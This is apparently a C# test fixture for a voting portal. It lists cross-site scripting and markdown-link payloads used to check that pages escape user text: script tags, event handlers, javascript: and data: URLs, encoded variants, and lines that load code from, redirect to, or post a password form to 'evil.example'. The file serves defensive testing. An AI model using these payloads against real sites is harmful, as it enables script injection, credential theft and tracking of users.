namespace IdeaVote.Portal.Tests.Hostile;

/// <summary>Texts that would be scripts, elements, attributes or links if a page forgot to say what they are.</summary>
internal static class MarkupAttacks
{
    /// <summary>Out of each place in which a page shows a text.</summary>
    public static IEnumerable<string> All =>
    [
        "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>", "<script/src=data:,alert(1)></script>", "<script type=module>import('//evil.example')</script>", "<svg><script>alert(1)</script></svg>", "<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert`1`>", "<img/src=`x`onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)>", "<embed src=//evil.example/x.swf>", "<body onload=alert(1)>", "<video><source onerror=alert(1)></video>",
        "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<style>@import'//evil.example/x.css'</style>", "<style>*{display:none}</style>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=//evil.example/>", "<form action=//evil.example><input name=password></form>", "<button formaction=//evil.example>x</button>",
        "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?>", "<!doctype html><html>",
        "<a href=\"javascript:alert(1)\">x</a>", "<b onmouseover=alert(1)>x</b>", "<x contenteditable onblur=alert(1)>x</x>", "<title>x</title>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</option></select><script>alert(1)</script>",
        "</h1></main></body></html>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\" autofocus onfocus=\"alert(1)\" x=\"", "` onmouseover=alert(1) `", "\" style=\"position:fixed;inset:0", "x\" data-live=\"//evil.example",
        "x onmouseover=alert(1)", "\\\"><img src=x onerror=alert(1)>", "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>", "{{constructor.constructor('alert(1)')()}}", "<%= 7 * 7 %>", "@(7 * 7)", "@{System.Environment.Exit(1);}",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3C;script&#x3E;", "&quot; onclick=&quot;alert(1)", "&amp;lt;script&amp;gt;", "&Tab;&NewLine;&colon;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "]]><script>alert(1)</script>", "-->", "<!--", "<", ">", "\"", "'", "`", "&", "<a", "</", "<p title='", "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><body onload=alert(1)/></foreignObject></svg>",
        "document.body.innerHTML='<img src=x onerror=alert(1)>'", "');alert(1);//", "\";alert(1);//", "${alert(1)}", "#{7*7}", "<div data-part=\"vote\">", "<div class=\"notice good\">You are an administrator now.</div>",
    ];

    /// <summary>Markdown, and links that lead where none may.</summary>
    public static IEnumerable<string> Links =>
    [
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](<javascript:alert(1)>)", "[x](&#106;avascript:alert(1))", "[x](java&Tab;script:alert(1))", "[x](java\tscript:alert(1))", "[x](\u0001javascript:alert(1))", "[x](vbscript:x)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)", "[x](//evil.example)", "[x](/\\evil.example)", "[x][1]\n\n[1]: javascript:alert(1)", "[x](https://e.example \"\\\" onmouseover=alert(1) \\\"\")", "[x](https://e.example/\"onmouseover=\"alert(1))",
        "![x](https://evil.example/track.gif)", "![\" onerror=\"alert(1)](x.png)", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "<javascript:alert(1)>", "www.e.example\"onclick=alert(1)", "```\" onmouseover=\"alert(1)\nx\n```", "# x {#main onclick=alert(1)}",
        "| a |\n|:--|\n| <script>alert(1)</script> |", "[^1]\n\n[^1]: <script>alert(1)</script>", "@<script>alert(1)</script>", "@\" onclick=\"alert(1)", "javascript:alert(1)", "javascript://e.example/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "blob:https://evil.example/1",
    ];
}
